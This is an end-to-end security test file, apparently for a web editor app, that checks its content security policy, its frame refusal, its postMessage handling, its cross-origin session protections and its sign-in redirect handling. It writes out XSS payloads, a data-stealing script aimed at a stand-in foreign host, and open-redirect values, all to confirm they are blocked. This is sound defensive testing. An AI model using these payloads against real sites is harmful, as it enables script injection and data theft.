import { once } from 'node:events';
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { launchBrowser } from '@cairn/test-kit/browser';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type RunningServer, startServer } from '../start-server.ts';
import { textOf } from './editor.steps.ts';
import { PASSWORD, ana, makeSample, setUp } from './entry.steps.ts';
import { type Visitor, newVisitor, takeViolations } from './visitor.ts';

// Runs in the page, so that it stands here as text.
const THIEF = `
  const name = (act) => Promise.resolve().then(act).then(() => 'done', (error) => error.name);
  const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
  const opened = (make, good) => new Promise((resolve) => {
    try {
      const made = make();
      made[good] = () => resolve('done');
      made.onerror = () => resolve('refused');
    } catch { resolve('refused'); }
  });
  window.outcomes = (async () => ({
    nonce: document.querySelector('script[nonce]').getAttribute('nonce'),
    evaluated: await name(() => eval('1')),
    compiled: await name(() => new Function('return 1')()),
    fetched: await name(() => fetch('FOREIGN/stolen')),
    posted: await name(() => fetch('FOREIGN/stolen', { mode: 'no-cors', method: 'POST' })),
    socket: await opened(() => new WebSocket('FOREIGN/stolen'.replace('http', 'ws')), 'onopen'),
    worker: await opened(() => new Worker(blob), 'onmessage'),
  }))();
`;

let server: RunningServer;
let browser: Browser;
let visitor: Visitor;
let page: Page;
let projectId: string;
/** Of another origin: says nothing but an empty page, and notes who asks. */
let elsewhere: Server;
let foreign: string;
/** Into each account page, at its end. */
let put = '';
const asked: string[] = [];

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>Elsewhere</title>');
  }).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  foreign = `http://localhost:${(elsewhere.address() as AddressInfo).port}`;
  server = await startServer();
  browser = await launchBrowser();
  visitor = await newVisitor(browser, server.url);
  page = visitor.page;
  await setUp(page, server);
  projectId = await makeSample(page);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
  elsewhere?.close();
});
beforeEach(() => void asked.splice(0));

const UNHURRIED = { timeout: 20_000 };

describe('put into a page, whoever managed it,', () => {
  beforeAll(putIntoPages);
  afterAll(() => void (put = ''));
  const attacks: [what: string, directive: RegExp, html: string][] = [
    ['a script', /^script-src/, '<script>window.attacked = 1</script>'],
    [
      'a script with a made-up nonce',
      /^script-src/,
      '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.attacked = 1</script>',
    ],
    ['a script of this server', /^script-src/, '<script src="/monaco/x.js"></script>'],
    ['a script from elsewhere', /^script-src/, '<script src="FOREIGN/x.js"></script>'],
    ['a handler', /^script-src/, '<img src="data:," onerror="window.attacked = 1">'],
    ['a handler of a vector', /^script-src/, '<svg onload="window.attacked = 1"></svg>'],
    ['an image from elsewhere', /^img-src/, '<img src="FOREIGN/x.png">'],
    ['a style sheet from elsewhere', /^style-src/, '<link rel="stylesheet" href="FOREIGN/x.css">'],
    ['an object', /^object-src/, '<object data="FOREIGN/x"></object>'],
    ['a base', /^base-uri/, '<base href="FOREIGN/">'],
    ['a frame from elsewhere', /^(frame|default)-src/, '<iframe src="FOREIGN/"></iframe>'],
  ];

  test.each(attacks)('[S20][S40] %s does nothing and is reported', async (_what, directive, html) => {
    await loadWith(html.replace('FOREIGN', foreign));
    const reports: string[] = [];
    await expect
      .poll(() => {
        reports.push(...takeViolations());
        return reports.some((report) => directive.test(report));
      }, UNHURRIED)
      .toBe(true);
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    expect(asked).toEqual([]);
  });

  test('[S20][S40] what a script with the right nonce would take away goes nowhere', async () => {
    await loadWith(`<script nonce="NONCE">${THIEF.replaceAll('FOREIGN', foreign)}</script>`);
    const outcomes = await page.evaluate(() => (window as { outcomes?: Promise<unknown> }).outcomes);
    expect(outcomes).toEqual({
      nonce: '',
      evaluated: 'EvalError',
      compiled: 'EvalError',
      fetched: 'TypeError',
      posted: 'TypeError',
      socket: 'refused',
      worker: 'refused',
    });
    expect(asked).toEqual([]);
    expect(takeViolations().length).toBeGreaterThan(4);
  });
});

/** Opens a page whose HTML has more at its end than the server wrote; NONCE stands for the one of its policy. */
async function loadWith(html: string): Promise<void> {
  put = html;
  await page.goto('/account');
}

// For good: a route that is taken away while a page loads may leave requests of that page unanswered.
async function putIntoPages(): Promise<void> {
  // The whole address: the page before also asks the API for its account.
  await page.route(`${server.url}/account`, async (route) => {
    const response = await route.fetch();
    const text = await response.text();
    const [, nonce = ''] = /'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '') ?? [];
    const at = text.lastIndexOf('</body>');
    await route.fulfill({
      response,
      body: text.slice(0, at) + put.replace('NONCE', nonce) + text.slice(at),
    });
  });
}

describe('a page of another site', () => {
  let stranger: Page;
  beforeAll(async () => {
    stranger = await visitor.context.newPage();
    await stranger.goto(`${foreign}/`);
  });
  afterAll(() => stranger.close());

  test('[A29] frames none of ours', async () => {
    for (const path of [
      '/',
      '/login',
      `/projects/${projectId}`,
      '/nothing',
      '/icon.svg',
      '/api/auth/me',
      '/api/docs',
      '/health',
    ]) {
      const shown = await stranger.evaluate(async (url) => {
        const frame = document.createElement('iframe');
        frame.src = url;
        const loaded = new Promise((resolve) => (frame.onload = resolve));
        document.body.append(frame);
        await loaded;
        return frame.contentDocument?.body.textContent ?? 'closed';
      }, server.url + path);
      const frame = stranger.frames().at(-1)!;
      // The browser puts a page of its own where it shows nothing.
      expect([path, shown, frame.url()]).toEqual([path, 'closed', 'chrome-error://chromewebdata/']);
    }
  });

  test('[A29] says what it likes to a window of ours, and nothing happens', async () => {
    const opening = visitor.context.waitForEvent('page');
    await stranger.evaluate((url) => {
      (window as { opened?: Window | null }).opened = window.open(url, 'ours');
    }, `${server.url}/projects/${projectId}`);
    const opened = await opening;
    await opened.getByRole('treeitem', { name: 'README.md' }).waitFor();
    await opened.getByText('Last sync').waitFor();
    await opened.getByText('Git last asked').waitFor();
    const before = await opened.locator('main').innerText();
    // The page reads ahead by itself; what changes something or leads away is what counts.
    const acts: string[] = [];
    opened.on('request', (request) => {
      if (request.method() !== 'GET' || request.isNavigationRequest()) acts.push(request.url());
    });
    await stranger.evaluate(async () => {
      const { opened: ours } = window as { opened?: Window | null };
      const texts = [
        '{"type":"navigate","url":"javascript:alert(1)"}',
        '<img src=x onerror=alert(1)>',
        '42["doc.changed",{}]',
      ];
      for (const data of [
        ...texts,
        { type: 'webpackInvalid' },
        { action: 'logout' },
        { vscode: 1, method: '$initialize' },
        null,
      ])
        ours?.postMessage(data, '*');
    });
    await opened.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    );
    expect(await opened.locator('main').innerText()).toBe(before);
    expect(acts).toEqual([]);
    expect(opened.url()).toBe(`${server.url}/projects/${projectId}`);
    await opened.close();
  });

  test('[A14][S19] neither renews the session nor reads anything with it', async () => {
    const outcomes = await stranger.evaluate(async (origin) => {
      const outcome = (path: string, init: RequestInit) =>
        fetch(origin + path, { credentials: 'include', ...init }).then(
          ({ type, status }) => `${type} ${status}`,
          (error: Error) => error.name,
        );
      return [
        await outcome('/api/auth/refresh', { method: 'POST', headers: { 'x-requested-with': 'app' } }),
        await outcome('/api/auth/refresh', { method: 'POST', mode: 'no-cors' }),
        await outcome('/api/auth/me', {}),
        await outcome('/api/projects', { headers: { 'x-requested-with': 'app' } }),
      ];
    }, server.url);
    expect(outcomes).toEqual(['TypeError', 'opaque 0', 'TypeError', 'TypeError']);
    await page.goto('/');
    await page.getByRole('link', { name: 'Sample project' }).waitFor();
  });
});

describe('after signing in', () => {
  test.each([
    '//FOREIGN/',
    '/\\FOREIGN/',
    '/.//FOREIGN/',
    '/%2e//FOREIGN/',
    '/\t/FOREIGN/',
    'http://FOREIGN/',
    'javascript:window.attacked=1',
    '/api/auth/logout',
  ])('[S41] %j is not gone to', async (next) => {
    const guest = await newVisitor(browser, server.url);
    const wanted = next.replace('FOREIGN', new URL(foreign).host);
    await guest.page.goto(`/login?next=${encodeURIComponent(wanted)}`);
    await guest.page.getByLabel('E-mail').fill(ana.email);
    await guest.page.getByLabel('Password').fill(PASSWORD);
    await guest.page.getByRole('button', { name: 'Sign in' }).click();
    await guest.page.getByRole('link', { name: 'Sample project' }).waitFor();
    expect(guest.page.url()).toBe(`${server.url}/`);
    expect([guest.strays, asked]).toEqual([[], []]);
    await guest.context.close();
  });

  test('the sign-in page leads on at once, to where one was going', async () => {
    await page.goto('/login');
    await page.getByRole('link', { name: 'Sample project' }).waitFor();
    expect(new URL(page.url()).pathname).toBe('/');
    await page.goto(`/login?next=${encodeURIComponent('/account')}`);
    await page.getByRole('heading', { name: 'Where you are signed in' }).waitFor();
    expect(new URL(page.url()).pathname).toBe('/account');
    await page.goto(`/login?next=${encodeURIComponent(`${foreign}/`)}`);
    await page.getByRole('link', { name: 'Sample project' }).waitFor();
    expect(asked).toEqual([]);
  });
});

test('[S20] the editor, its colours, its suggestions and its workers stay within the policy', async () => {
  const workers: string[] = [];
  page.on('worker', (worker) => workers.push(worker.url()));
  await page.goto(`/projects/${projectId}`);
  await page.getByRole('treeitem', { name: 'code-standards.md' }).click();
  await textOf(page).click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('\n```ts\nconst one = 1;\n```\n');
  await expect.poll(() => workers.length).toBeGreaterThan(0);
  await page.keyboard.press('Control+f');
  await page.getByPlaceholder('Find').waitFor();
  await page.keyboard.press('Escape');
  expect(workers.every((url) => url.startsWith(`${server.url}/monaco/`))).toBe(true);
});
